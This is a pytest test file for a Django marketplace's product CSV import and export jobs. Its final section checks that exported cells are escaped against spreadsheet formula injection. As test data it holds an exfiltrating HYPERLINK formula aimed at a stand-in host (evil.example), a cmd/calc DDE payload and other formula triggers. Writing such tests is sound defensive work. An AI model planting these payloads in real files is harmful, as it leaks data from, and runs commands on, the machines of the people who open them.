"""CSV import and export jobs: rows grouped by handle, a product with any bad row not imported at
all, an error report (row, column, message), export that imports back unchanged, and the job run
through the outbox and safe to run twice. The task function runs synchronously here."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.files.storage import storages
from django.core.files.uploadedfile import SimpleUploadedFile

from catalog import tasks
from catalog.errors import ImportJobError
from catalog.models import (
    AttributeKind,
    JobKind,
    JobStatus,
    MovementReason,
    Product,
    ProductJob,
    ProductStatus,
    StockMovement,
)
from catalog.services import csv_io
from marketplace.notifications.models import OutboxMessage
from marketplace.sellers.models import MemberRole, SellerKind
from tests.catalog.factories import AttributeFactory, AttributeOptionFactory, CategoryFactory
from tests.sellers.factories import MerchantFactory

pytestmark = pytest.mark.django_db

HEADER = csv_io.COLUMNS


@pytest.fixture(autouse=True)
def private_files(settings, tmp_path, monkeypatch):
    settings.MEDIA_ROOT = str(tmp_path / "media")
    settings.STORAGES = {
        **settings.STORAGES,
        "private": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": str(tmp_path / "private")},
        },
    }
    for name in ("source", "result"):
        monkeypatch.setattr(ProductJob._meta.get_field(name), "storage", storages["private"])


@pytest.fixture
def merchant():
    return MerchantFactory(brands=["Acme"], seller_kind=SellerKind.WHOLESALER)


@pytest.fixture
def owner(merchant):
    return merchant.members.get(role=MemberRole.OWNER).user


@pytest.fixture
def shop(merchant):
    return merchant.shop


@pytest.fixture
def shirts():
    category = CategoryFactory(slug="shirts")
    colour = AttributeFactory(category=category, code="colour", is_variant=True)
    for value in ("Red", "Blue"):
        AttributeOptionFactory(attribute=colour, value=value)
    AttributeFactory(category=category, code="weight", kind=AttributeKind.NUMBER, unit="g")
    return category


def csv_text(rows, header=HEADER):
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=header, extrasaction="ignore")
    writer.writeheader()
    for row in rows:
        writer.writerow(row)
    return out.getvalue()


def row(handle="linen-shirt", sku="LS-RED", **fields):
    values = {
        "handle": handle,
        "title": "Linen shirt",
        "category": "shirts",
        "brand": "Acme",
        "description": "<p>Soft</p>",
        "min_order_quantity": "1",
        "attributes": "weight=180",
        "options": "colour=Red",
        "sku": sku,
        "price": "20.00",
        "compare_at_price": "",
        "stock": "5",
        "low_stock_threshold": "2",
        "weight_grams": "200",
        "barcode": "",
        "active": "yes",
        "price_tiers": "",
    }
    return values | fields


def run_import(shop, owner, text):
    upload = SimpleUploadedFile("products.csv", text.encode("utf-8"), content_type="text/csv")
    job = csv_io.start_import(shop=shop, by=owner, file=upload)
    tasks.run_product_job(job.pk)
    job.refresh_from_db()
    return job


def test_an_import_creates_products_with_variants_stock_and_tiers(shop, owner, shirts):
    job = run_import(
        shop,
        owner,
        csv_text(
            [
                row(price_tiers="10:18.00; 50:15.00"),
                row(sku="LS-BLUE", options="colour=Blue", price="22.00", stock="0"),
                row(handle="tee", title="Tee", sku="TEE-1", options="", attributes="", brand=""),
            ]
        ),
    )
    assert (job.status, job.errors) == (JobStatus.DONE, [])
    assert (job.total_rows, job.processed_rows, job.created_products) == (3, 3, 2)
    product = Product.objects.get(slug="linen-shirt")
    assert (product.shop, product.status, product.brand.name) == (shop, ProductStatus.DRAFT, "Acme")
    assert (product.price_min, product.price_max, product.stock_total) == (
        Decimal("20.00"),
        Decimal("22.00"),
        5,
    )
    red = product.variants.get(sku="LS-RED")
    assert [o.value for o in red.options.all()] == ["Red"]
    assert list(red.price_tiers.values_list("min_quantity", flat=True)) == [10, 50]
    assert StockMovement.objects.get(variant=red).reason == MovementReason.ADJUSTMENT
    assert str(product.attribute_values.get()) == "180 g"


@pytest.mark.parametrize(
    ("bad", "column"),
    [
        ({"price": "12,50"}, "price"),
        ({"price": "-1"}, "price"),
        ({"category": "no-such-category"}, "category"),
        ({"options": "colour=Purple"}, "options"),
        ({"stock": "lots"}, "stock"),
        ({"price_tiers": "10:25.00"}, "price_tiers"),
        ({"brand": "Gucci"}, ""),
    ],
)
def test_a_bad_row_keeps_its_whole_product_out_and_the_others_in(shop, owner, shirts, bad, column):
    rows = [
        row(handle="good", sku="G-1"),
        row(sku="LS-RED"),
        row(sku="LS-BLUE", **({"options": "colour=Blue"} | bad)),
    ]
    if "category" in bad or "brand" in bad:  # product columns are read from the first row
        rows[1] |= bad
    job = run_import(shop, owner, csv_text(rows))
    assert job.status == JobStatus.DONE
    assert not Product.objects.filter(slug="linen-shirt").exists()
    assert Product.objects.filter(slug="good").exists()
    assert job.created_products == 1
    assert len(job.errors) == 1
    error = job.errors[0]
    assert error["row"] == (3 if ("category" in bad or "brand" in bad) else 4)
    assert error["column"] == column
    assert error["message"]
    assert not StockMovement.objects.filter(variant__sku__startswith="LS-").exists()


def test_a_missing_column_fails_the_job_with_a_report_and_imports_nothing(shop, owner, shirts):
    header = [name for name in HEADER if name != "price"]
    job = run_import(shop, owner, csv_text([row()], header=header))
    assert job.status == JobStatus.FAILED
    assert job.errors == [{"row": 1, "column": "price", "message": "This column is missing."}]
    assert not Product.objects.exists()
    report = list(csv.reader(io.StringIO(csv_io.error_report_csv(job=job))))
    assert report == [["row", "column", "message"], ["1", "price", "This column is missing."]]


def test_importing_again_updates_instead_of_duplicating(shop, owner, shirts):
    run_import(shop, owner, csv_text([row()]))
    job = run_import(shop, owner, csv_text([row(title="Linen shirt II", price="25.00", stock="")]))
    assert (job.created_products, job.updated_products) == (0, 1)
    product = Product.objects.get()
    variant = product.variants.get()
    assert (product.title, variant.price, variant.stock) == ("Linen shirt II", Decimal("25.00"), 5)


def test_export_writes_the_import_format_and_round_trips(shop, owner, shirts):
    run_import(
        shop,
        owner,
        csv_text(
            [
                row(price_tiers="10:18.00; 50:15.00", compare_at_price="30.00"),
                row(sku="LS-BLUE", options="colour=Blue", stock="7", active="no"),
            ]
        ),
    )
    export = csv_io.start_export(shop=shop, by=owner)
    tasks.run_product_job(export.pk)
    export.refresh_from_db()
    assert export.status == JobStatus.DONE
    with export.result.open("rb") as file:
        exported = file.read().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert list(rows[0]) == HEADER
    assert [(r["sku"], r["stock"], r["active"], r["price_tiers"]) for r in rows] == [
        ("LS-RED", "5", "yes", "10:18.00; 50:15.00"),
        ("LS-BLUE", "7", "no", ""),
    ]
    before = StockMovement.objects.count()
    again = run_import(shop, owner, exported)
    assert (again.errors, again.updated_products, again.created_products) == ([], 1, 0)
    assert StockMovement.objects.count() == before  # nothing changed, so nothing moved
    rerun = csv_io.start_export(shop=shop, by=owner)
    tasks.run_product_job(rerun.pk)
    rerun.refresh_from_db()
    with rerun.result.open("rb") as file:
        assert file.read().decode("utf-8-sig") == exported


def test_start_import_queues_the_task_through_the_outbox(
    shop, owner, django_capture_on_commit_callbacks
):
    upload = SimpleUploadedFile("p.csv", csv_text([row()]).encode(), content_type="text/csv")
    with django_capture_on_commit_callbacks() as callbacks:
        job = csv_io.start_import(shop=shop, by=owner, file=upload)
    message = OutboxMessage.objects.get()
    assert (message.task_name, message.kwargs, message.queue) == (
        "catalog.tasks.run_product_job",
        {"job_id": job.pk},
        "reports",
    )
    assert len(callbacks) == 1
    assert (job.kind, job.status) == (JobKind.IMPORT, JobStatus.QUEUED)


def test_a_job_runs_once(shop, owner, shirts):
    job = run_import(shop, owner, csv_text([row()]))
    assert tasks.run_product_job(job.pk) == "skipped"
    assert Product.objects.count() == 1


def test_a_file_that_is_not_utf8_is_refused(shop, owner):
    upload = SimpleUploadedFile("p.csv", "título".encode("utf-16"), content_type="text/csv")
    with pytest.raises(ImportJobError):
        csv_io.start_import(shop=shop, by=owner, file=upload)
    assert not ProductJob.objects.exists()


# --- Formula injection: merchant text a spreadsheet would run is escaped, and reads back ------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def run_export(shop, owner):
    job = csv_io.start_export(shop=shop, by=owner)
    tasks.run_product_job(job.pk)
    job.refresh_from_db()
    assert job.status == JobStatus.DONE
    with job.result.open("rb") as file:
        return file.read().decode("utf-8-sig")


def exported_rows(text):
    return {r["sku"].lstrip("'"): r for r in csv.DictReader(io.StringIO(text))}


def snapshot(product):
    product.refresh_from_db()
    variants = [
        (v.sku, v.barcode, v.price, v.compare_at_price, v.stock, v.is_active)
        for v in product.variants.order_by("pk")
    ]
    return (product.title, product.subtitle, product.description, product.brand_id, variants)


@pytest.mark.parametrize(
    ("column", "text"),
    [
        ("title", HYPERLINK),
        ("title", "+1+cmd|' /C calc'!A0"),
        ("title", "-2+3"),
        ("subtitle", "@SUM(1,1)"),
        ("barcode", "\t=1+1"),
        ("barcode", "\r=1+1"),
        ("sku", "=1+1"),
        ("subtitle", "'=1+1"),  # the merchant's own quote survives: one more is added
    ],
)
def test_export_puts_a_quote_before_merchant_text_a_spreadsheet_would_run(
    shop, owner, shirts, column, text
):
    run_import(shop, owner, csv_text([row()]))
    product = Product.objects.get()
    if column in ("title", "subtitle"):
        Product.objects.filter(pk=product.pk).update(**{column: text})
    else:
        product.variants.update(**{column: text})
    exported = list(csv.DictReader(io.StringIO(run_export(shop, owner))))
    assert len(exported) == 1
    assert exported[0][column] == "'" + text
    others = {k: v for k, v in exported[0].items() if k != column}
    assert not any(v.startswith("'") for v in others.values())


def test_export_writes_numbers_as_numbers(shop, owner, shirts):
    run_import(shop, owner, csv_text([row(price_tiers="10:18.00", compare_at_price="30.00")]))
    Product.objects.update(title="-5")  # a title that is a plain number reads as a number
    exported = next(csv.DictReader(io.StringIO(run_export(shop, owner))))
    assert {
        k: exported[k]
        for k in (
            "title",
            "min_order_quantity",
            "price",
            "compare_at_price",
            "stock",
            "low_stock_threshold",
            "weight_grams",
            "price_tiers",
        )
    } == {
        "title": "-5",
        "min_order_quantity": "1",
        "price": "20.00",
        "compare_at_price": "30.00",
        "stock": "5",
        "low_stock_threshold": "2",
        "weight_grams": "200",
        "price_tiers": "10:18.00",
    }


def test_an_export_with_escaped_cells_imports_back_without_changing_the_product(
    shop, owner, shirts
):
    run_import(
        shop,
        owner,
        csv_text(
            [
                row(title=HYPERLINK, subtitle="'Tis the season", description="-one", sku="=A1"),
                row(sku="@B2", options="colour=Blue", barcode="+44 20 7946 0000"),
            ]
        ),
    )
    product = Product.objects.get()
    before = snapshot(product)
    assert before[:3] == (HYPERLINK, "'Tis the season", "-one")
    exported = run_export(shop, owner)
    rows = exported_rows(exported)
    assert (rows["=A1"]["title"], rows["=A1"]["sku"], rows["@B2"]["barcode"]) == (
        "'" + HYPERLINK,
        "'=A1",
        "'+44 20 7946 0000",
    )
    movements = StockMovement.objects.count()
    again = run_import(shop, owner, exported)
    assert (again.errors, again.updated_products, again.created_products) == ([], 1, 0)
    assert snapshot(product) == before
    assert StockMovement.objects.count() == movements
    assert run_export(shop, owner) == exported


def test_the_error_report_escapes_the_merchant_text_it_quotes(shop, owner, shirts):
    sku = '=HYPERLINK("http://evil.example","x")'
    job = run_import(shop, owner, csv_text([row(sku=sku, compare_at_price="10.00")]))
    assert len(job.errors) == 1
    assert job.errors[0]["message"].startswith(sku)  # the job keeps the text as it was
    report = list(csv.reader(io.StringIO(csv_io.error_report_csv(job=job))))
    assert report == [
        ["row", "column", "message"],
        ["2", "compare_at_price", "'" + job.errors[0]["message"]],
    ]
